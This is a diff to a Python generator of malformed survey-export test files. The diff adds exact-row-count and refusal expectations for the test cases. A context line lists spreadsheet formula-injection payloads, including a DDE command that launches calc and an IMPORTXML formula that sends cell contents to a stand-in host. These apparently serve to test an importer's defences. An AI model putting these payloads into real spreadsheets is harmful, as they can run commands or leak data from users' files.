@@ -20,7 +20,6 @@ import io
 import random
 import struct
 import zipfile
-import zlib
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -50,6 +49,17 @@ FAMILIES: dict[str, int] = {
 }
 """Cases per family (2,000 and more in all)."""
 
+EXACT_ROWS = frozenset({
+    "encodings", "invalid_byte", "ragged_rows", "stray_quotes", "delimiter_switch", "line_endings", "huge_cells",
+    "formula_cells", "empty_finished", "dates", "status_mangled", "identifiers", "wrong_platform"})
+"""Families whose files still hold exactly the base's responses: loaded, every one must be read
+(kept or quarantined): a stray quote or a switched delimiter that merges rows is silent loss."""
+EXACT_KINDS = frozenset({"valid workbook", "data on the 2nd sheet", "gzip of a good export", "two concatenated gzip members"})
+"""The same, for these XLSX and gzip cases."""
+ALIGNMENT = frozenset({"encodings", "invalid_byte", "ragged_rows", "stray_quotes", "delimiter_switch", "line_endings",
+                       "huge_cells", "wrong_platform"})
+"""Families where a stored response id or language not in the base file is a misaligned row."""
+
 FORMULAS = ("=HYPERLINK(\"http://evil.example/\",\"click\")", "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
             "-2+3", "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "\t=1", "=cmd|'/c calc'!'A1'")
 
@@ -65,6 +75,8 @@ class Case:
     platform: str = "auto"
     planted: list[str] = field(default_factory=list)
     what: str = ""
+    expect_rows: int | None = None  # when loaded, the rows read must be these (the file's true responses)
+    must_refuse: bool = False
 
 
 @dataclass
@@ -651,11 +663,12 @@ def generate(out: Path, seed: int = 19, only: dict[str, list[int]] | None = None
             else:
                 fn = globals()["_" + {"ragged_rows": "ragged"}.get(family, family)]
                 data, what = fn(rng, base)
+            expect = BASE_ROWS if family in EXACT_ROWS or what in EXACT_KINDS else None
             name = f"{family}-{i:04d}-{base.name}"
             path = out / (name + suffix)
             path.write_bytes(data)
             cases.append(Case(name=name, family=family, base=base.name, path=path, platform=platform,
-                              planted=planted, what=what))
+                              planted=planted, what=what, expect_rows=expect, must_refuse=family == "header_only"))
     return cases
 
 
